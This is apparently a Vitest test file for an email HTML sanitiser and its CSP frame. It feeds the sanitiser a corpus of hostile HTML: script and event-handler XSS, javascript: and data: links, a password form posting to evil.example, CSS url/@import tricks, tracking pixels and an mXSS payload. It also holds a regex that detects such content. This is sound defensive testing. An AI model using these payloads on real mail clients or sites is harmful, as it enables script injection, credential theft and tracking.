import { describe, expect, test } from 'vitest';
import type { InlinePart } from '$shared/contract/index.ts';
import { frameCsp, frameDocument } from './frame-document.ts';
import { LINK_ATTRIBUTE, sanitizeMail } from './sanitize.ts';

const pixel = 'R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==';
const inline: InlinePart[] = [{ contentId: 'logo@ecole', mimeType: 'image/gif', base64: pixel }];

const blocked = (html: string) => sanitizeMail(html, { allowRemote: false, inline });
const shown = (html: string) => sanitizeMail(html, { allowRemote: true, inline });

/** Parses the output as the frame would, to assert on elements rather than on strings. */
function dom(html: string): HTMLElement {
  const body = document.implementation.createHTMLDocument('').body;
  body.innerHTML = html;
  return body;
}

/** Anything in the output that could reach the network or run. */
const danger =
  /https?:|javascript:|vbscript:|<script|onerror|onload|onclick|@import|<form|<svg|<base|<meta|<link/i;

describe('the mail sanitiser, fed hostile HTML', () => {
  const corpus: Record<string, string> = {
    script: '<p>a</p><script>document.title="pwned"</script>',
    'script in head':
      '<html><head><script src="http://evil.example/x.js"></script></head><body>a</body></html>',
    onerror: '<img src="x" onerror="fetch(\'http://evil.example/\')">',
    'onload on body': '<body onload="alert(1)">a</body>',
    'javascript: link': '<a href="javascript:alert(1)">clic</a>',
    'javascript: link with tab': '<a href="java\tscript:alert(1)">clic</a>',
    'vbscript: link': '<a href="vbscript:msgbox(1)">clic</a>',
    'data:text/html link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
    'data:text/html image': '<img src="data:text/html,<script>alert(1)</script>">',
    'svg image as data:': '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    'svg with script': '<svg><script>alert(1)</script><image href="http://evil.example/s.png"/></svg>',
    'svg onload': '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    form: '<form action="http://evil.example/steal" method="post"><input name="password"><button>OK</button></form>',
    'button formaction': '<button formaction="http://evil.example/">OK</button>',
    base: '<base href="http://evil.example/"><a href="/relative">x</a>',
    'meta refresh': '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    'external stylesheet': '<link rel="stylesheet" href="http://evil.example/s.css">',
    'style attribute url': '<div style="background:url(http://evil.example/bg.png)">a</div>',
    'style attribute escaped url': '<div style="background:u\\72l(http://evil.example/bg.png)">a</div>',
    'style element url': '<style>body{background-image:url("http://evil.example/b.png")}</style>',
    '@import': '<style>@import url(http://evil.example/i.css); p{color:red}</style>',
    '@import string': "<style>@import 'http://evil.example/i.css';</style>",
    'font-face': '<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style>',
    'image-set': '<div style="background:image-set(&quot;http://evil.example/i.png&quot; 1x)">a</div>',
    expression: '<div style="width:expression(alert(1))">a</div>',
    srcset: '<img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x">',
    'background attribute': '<table background="http://evil.example/t.png"><tr><td>a</td></tr></table>',
    'remote img': '<img src="http://evil.example/pixel.gif" width="1" height="1">',
    'protocol-relative img': '<img src="//evil.example/pixel.gif">',
    object: '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
    iframe:
      '<iframe src="http://evil.example/"></iframe><frameset><frame src="http://evil.example/"></frameset>',
    'video poster':
      '<video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4"></video>',
    'a ping': '<a href="#" ping="http://evil.example/ping">x</a>',
    'image map': '<map name="m"><area href="http://evil.example/" shape="rect"></map>',
    mathml: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    'mXSS noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  };

  for (const [name, html] of Object.entries(corpus)) {
    test(`${name}: nothing to run or fetch is left`, () => {
      const { html: clean } = blocked(html);
      // Links keep their target only in our own attribute, which is checked again on click.
      const withoutOurLinks = clean.replace(new RegExp(`${LINK_ATTRIBUTE}="[^"]*"|title="[^"]*"`, 'g'), '');
      expect(withoutOurLinks).not.toMatch(danger);
      const body = dom(clean);
      expect(
        body.querySelector(
          'script, form, input, button, svg, math, base, meta, link, object, embed, iframe, frame, video, source, area',
        ),
      ).toBeNull();
      for (const element of body.querySelectorAll('*'))
        for (const attribute of element.attributes) expect(attribute.name).not.toMatch(/^on/i);
    });
  }

  test('remote images and CSS URLs are found, dropped while blocked, kept when shown', () => {
    const html =
      '<img src="https://tracker.example/p.gif"><div style="background:url(https://cdn.example/b.png)">a</div>';
    const hidden = blocked(html);
    expect(hidden.remoteFound).toBe(true);
    expect(dom(hidden.html).querySelector('img')?.hasAttribute('src')).toBe(false);
    expect(hidden.html).toContain('background:none');

    const visible = shown(html);
    expect(dom(visible.html).querySelector('img')?.getAttribute('src')).toBe('https://tracker.example/p.gif');
    expect(visible.html).toContain('url(&quot;https://cdn.example/b.png&quot;)');
  });

  test('even when shown, stylesheets, @import, fonts and srcset stay out', () => {
    const { html } = shown(
      '<link rel="stylesheet" href="https://x.example/s.css"><style>@import "https://x.example/i.css";@font-face{src:url("https://x.example/f.woff")}</style><img srcset="https://x.example/2.png 2x" src="https://x.example/1.png">',
    );
    expect(html).not.toContain('s.css');
    expect(html).not.toContain('i.css');
    expect(html).not.toContain('2.png');
    expect(html).toContain('https://x.example/1.png');
  });

  test('a mail without remote content says so', () => {
    expect(blocked('<p>Bonjour</p>').remoteFound).toBe(false);
  });

  test('cid: images become data: URLs of their inline part, with no remote content found', () => {
    const result = blocked('<img src="cid:logo@ecole" alt="logo"><img src="cid:absent@ecole">');
    const images = dom(result.html).querySelectorAll('img');
    expect(images[0]?.getAttribute('src')).toBe(`data:image/gif;base64,${pixel}`);
    expect(images[1]?.hasAttribute('src')).toBe(false);
    expect(result.remoteFound).toBe(false);
  });

  test('a cid: part that is not a raster image is not shown', () => {
    const svg: InlinePart = { contentId: 'x', mimeType: 'image/svg+xml', base64: 'PHN2Zz48L3N2Zz4=' };
    const { html } = sanitizeMail('<img src="cid:x">', { allowRemote: true, inline: [svg] });
    expect(dom(html).querySelector('img')?.hasAttribute('src')).toBe(false);
  });

  test('links lose their href to our attribute, with the real target as title', () => {
    const { html } = blocked(
      '<a href="https://www.ac-lyon.fr/x" target="_top" data-cartable-href="javascript:alert(1)">site</a><a href="/relative">rel</a><a href="mailto:a@b.fr">mail</a>',
    );
    const links = dom(html).querySelectorAll('a');
    expect(links[0]?.getAttribute('href')).toBe('#');
    expect(links[0]?.getAttribute(LINK_ATTRIBUTE)).toBe('https://www.ac-lyon.fr/x');
    expect(links[0]?.getAttribute('title')).toBe('https://www.ac-lyon.fr/x');
    expect(links[0]?.hasAttribute('target')).toBe(false);
    expect(links[1]?.hasAttribute('href')).toBe(false);
    expect(links[1]?.hasAttribute(LINK_ATTRIBUTE)).toBe(false);
    expect(links[2]?.getAttribute(LINK_ATTRIBUTE)).toBe('mailto:a@b.fr');
  });

  test('the mail’s own data-cartable-href on a link without href is dropped', () => {
    const { html } = blocked('<a data-cartable-href="javascript:alert(1)">x</a>');
    expect(html).not.toContain('javascript');
  });

  test('styles from the head are kept, cleaned', () => {
    const { html } = blocked('<html><head><style>p{color:red}</style></head><body><p>a</p></body></html>');
    expect(html).toContain('p{color:red}');
  });
});

describe('the frame document', () => {
  test('starts with a CSP allowing no script and no remote load', () => {
    const doc = frameDocument('<p>a</p>', false);
    expect(doc.indexOf('Content-Security-Policy')).toBeLessThan(doc.indexOf('<p>a</p>'));
    expect(frameCsp(false)).toBe(
      "default-src 'none'; img-src data: blob:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'",
    );
  });

  test('allows http(s) images only for a render the user asked for', () => {
    expect(frameCsp(true)).toContain('img-src data: blob: http: https:');
    expect(frameCsp(true)).not.toMatch(/script-src|style-src [^;]*http/);
  });
});
